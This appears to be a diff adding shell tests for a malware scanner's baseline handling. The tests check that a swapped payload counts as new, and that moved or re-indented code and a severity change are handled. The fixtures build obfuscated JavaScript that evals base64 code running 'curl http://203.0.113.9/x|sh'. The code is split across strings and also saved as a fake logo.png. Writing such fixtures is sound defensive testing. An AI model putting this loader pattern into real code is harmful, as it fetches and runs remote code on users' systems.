@@ -188,3 +188,36 @@ sed -i 's/collector\.example\.invalid/another.example.invalid/' twin/node_module
 scanner scan -q -f json --baseline twin.json -o twin.report twin
 say "a new payload in a known file is new" jq -e '[.findings[] | select(.known | not) | .rule] | contains(["L2-CRED-001", "L2-POST-001", "L2-WORM-001"])' twin.report
 say "what has nothing to do with it stays known" jq -e 'any(.findings[]; .known and .rule == "L2-LOCK-001")' twin.report
+
+# Nor in one's own code, where the line that fired counts, and what is decoded from it.
+mkdir -p own/src
+echo '{"name":"own","version":"1.0.0"}' >own/package.json
+pay() { # pay FILE REST: code that hides a command, with something far behind its beginning
+	node -e '
+const code = "require(\"child_process\").exec(\"curl http://203.0.113.9/x|sh\");//" + "a".repeat(3000) + process.argv[2];
+const coded = Buffer.from(code).toString("base64"), half = coded.length / 2 & ~3;
+require("fs").writeFileSync(process.argv[1] + "/src/one.js", "const a = 1;\neval(Buffer.from(\"" + coded + "\", \"base64\").toString());\n");
+require("fs").writeFileSync(process.argv[1] + "/src/two.js", "const c = \"" + coded.slice(0, half) + "\" +\n\t\"" + coded.slice(half) + "\";\neval(Buffer.from(c, \"base64\").toString());\n");
+require("fs").writeFileSync(process.argv[1] + "/src/logo.png", code);' "$1" "$2"
+}
+news() { # the findings that are new
+	scanner scan -q -f json --show info --baseline own.json -o own.report own
+	jq -r '.findings[] | select(.known | not) | .file' own.report | sort -u | tr '\n' ' '
+}
+pay own x
+scanner scan -q --baseline own.json --update-baseline own
+say "nothing is new at first" test -z "$(news)"
+known=$(jq '.findings | length' own.report)
+sed -i '1i // a line more' own/src/one.js own/src/two.js
+sed -i 's/^eval/	  eval/' own/src/one.js
+say "nor when lines move, or are indented" test -z "$(news)"
+pay own y
+say "a payload that is exchanged is new, however far behind, and on other lines" test "$(news)" = "src/logo.png src/one.js src/two.js "
+say "all of it" jq -e --argjson n "$known" '[.findings[] | select(.known | not)] | length == $n' own.report
+pay own x
+jq '.findings[].severity = "info"' own.json >worse.json && mv worse.json own.json
+say "what has become worse is new" test -n "$(news)"
+jq 'del(.findings[].severity)' own.json >old.json && mv old.json own.json
+say "a baseline of before says no severity" test -z "$(news)"
+jq '.findings[0].severity = "hihg"' own.json >bad.json
+say "one that is none is an error" gives 2 scanner scan --baseline bad.json own
